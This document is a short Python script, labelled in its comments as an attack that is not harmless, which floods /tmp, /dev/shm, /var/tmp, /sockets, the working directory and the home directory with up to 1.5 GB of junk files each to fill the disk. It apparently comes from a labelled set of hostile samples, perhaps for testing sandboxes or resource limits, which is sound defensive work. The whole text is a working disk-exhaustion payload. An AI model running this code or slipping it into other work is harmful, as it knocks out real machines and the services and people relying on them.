# attack: files until the disk is full, in every folder
# harmless: no
import os

block = b"x" * 1_000_000
for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", "/sockets", os.path.expanduser("~")):
    for number in range(300):
        try:
            with open(f"{folder}/flood{number}", "wb") as file:
                for _ in range(5):
                    file.write(block)
        except OSError:
            break
